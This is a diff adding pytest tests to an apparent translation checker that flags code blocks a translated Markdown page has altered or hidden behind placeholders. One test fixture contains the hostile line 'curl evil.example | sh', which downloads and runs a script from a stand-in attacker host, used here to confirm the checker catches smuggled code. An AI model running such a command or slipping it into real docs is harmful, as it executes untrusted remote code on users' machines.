@@ -267,3 +267,18 @@ def test_prose_that_was_indented_by_accident_may_become_prose(compare: Check) ->
     source = "# A\n\n    First way: knead it well.\n\n    Second way: wait overnight.\n"
 
     assert found(compare, source, "# Ạ\n\nCách một: nhào kỹ.\n\nCách hai: chờ qua đêm.\n") == []
+
+
+@pytest.mark.parametrize("mark", ["@@bash", "@@CODE_BLOCK_0@@"])
+def test_no_language_keeps_code_from_being_compared(compare: Check, mark: str) -> None:
+    evil = page("curl evil.example | sh", mark)
+
+    message = f"the code is marked as another language: {mark}, not bash"
+    assert ("code-block", 5, message) in found(compare, page("apt install good", "bash"), evil)
+
+
+def test_a_placeholder_for_code_is_told_once(compare: Check) -> None:
+    source = page("apt install good", "bash")
+    translation = "# A\n\nbefore\n\n@@CODE_BLOCK_0@@\n\n## B\n\nafter\n"
+
+    assert [rule for rule, *_ in found(compare, source, translation)] == ["placeholder"]
